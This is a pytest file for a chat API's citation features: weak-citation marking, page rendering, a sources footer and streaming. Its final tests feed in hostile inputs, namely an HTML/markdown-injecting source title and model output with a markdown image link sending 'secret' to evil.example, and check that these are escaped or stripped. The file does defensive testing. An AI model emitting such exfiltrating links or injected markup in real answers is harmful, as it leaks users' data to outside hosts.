"""Citations on every surface: the weak ones are marked, and the text can end with its sources."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sqlalchemy import select, update

from core.storage.tables import interactions
from tests.support.app_world import Scripted, World, asks
from tests.support.html_text import Reader

QUESTION = "How many days of holiday has every employee each year?"
PATH = "/v1/chat/completions"
WEAK = "the passage may not say this"


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path).ingest()


def scripted() -> Scripted:
    return Scripted(["Thirty days [1], ", "or more [2]."], weak=[2])


async def test_a_weak_citation_says_so_in_the_api(world: World) -> None:
    async with world.client(scripted()) as client:
        body = (await client.post(PATH, json=asks(QUESTION))).json()
    assert [citation["supported"] for citation in body["citations"]] == [True, False]
    assert len(body["choices"][0]["message"]["annotations"]) == 2


async def test_a_weak_citation_looks_and_reads_otherwise_on_the_page(world: World) -> None:
    async with world.client(scripted()) as client:
        body = (await client.post(PATH, json=asks(QUESTION))).json()
        page = (await client.get(f"/answers/{body['interaction_id']}")).text
    markers = [
        attributes for name, attributes in Reader(page).tags if name == "a" and "cite" in attributes.get("class", "")
    ]
    assert [(marker["class"], marker["aria-label"]) for marker in markers] == [
        ("cite", "Source 1"),
        ("cite weak", f"Source 2: {WEAK}"),
    ]
    assert page.count("The passage may not say this.") == 1


async def test_records_from_before_the_check_count_as_supported(world: World) -> None:
    async with world.client(scripted()) as client:
        body = (await client.post(PATH, json=asks(QUESTION))).json()
        with world.database.transaction() as connection:
            stored = connection.execute(select(interactions.c.citations)).scalar_one()
            old = [{name: value for name, value in citation.items() if name != "supported"} for citation in stored]
            connection.execute(update(interactions).values(citations=old))
        page = (await client.get(f"/answers/{body['interaction_id']}")).text
    assert "weak" not in page
    assert WEAK not in page.lower()


async def test_the_text_ends_with_its_sources_where_that_is_asked_for(world: World) -> None:
    async with world.client(scripted()) as client:
        body = (await client.post(PATH, json={**asks(QUESTION), "citations_footer": True})).json()
        plain = (await client.post(PATH, json=asks(QUESTION))).json()
    content = body["choices"][0]["message"]["content"]
    assert content.startswith(f"{body['answer']}\n\nSources:\n\n- [1] Holidays (`handbook/holidays.md`)\n- [2] ")
    assert content.endswith(f"({WEAK})")
    assert plain["choices"][0]["message"]["content"] == plain["answer"]


async def test_a_stream_s_last_text_is_the_sources(world: World) -> None:
    async with world.client(scripted()) as client:
        whole = (await client.post(PATH, json={**asks(QUESTION), "citations_footer": True})).json()
        response = await client.post(PATH, json={**asks(QUESTION), "citations_footer": True, "stream": True})
    events = [json.loads(event.removeprefix("data: ")) for event in response.text.split("\n\n")[:-2]]
    texts = [event["choices"][0]["delta"].get("content", "") for event in events]
    assert "".join(texts) == whole["choices"][0]["message"]["content"]
    assert events[-1]["choices"][0]["finish_reason"] == "stop"


async def test_a_hostile_title_stays_text_in_the_sources(world: World) -> None:
    title = "<img src=x> [free](https://evil.example) \x1b[31m`"
    world.add("handbook/evil`.md", "Every employee has ninety days of holiday each year.", title=title)
    async with world.client(Scripted(["Ninety [1][2][3][4]."])) as client:
        body = (await client.post(PATH, json={**asks(QUESTION), "citations_footer": True})).json()
    content = body["choices"][0]["message"]["content"]
    assert "&lt;img src=x> free [31m\\` (`handbook/evil.md`)" in content


async def test_what_a_model_writes_is_filtered_before_it_leaves(world: World) -> None:
    hostile = ["Thirty [1]. ![x](https://evil.ex", "ample/?q=secret) <b>", " [x](https://evil.example)"]
    async with world.client(Scripted(hostile)) as client:
        body = (await client.post(PATH, json=asks(QUESTION))).json()
    assert body["answer"] == body["choices"][0]["message"]["content"] == "Thirty [1]. x &lt;b> x"
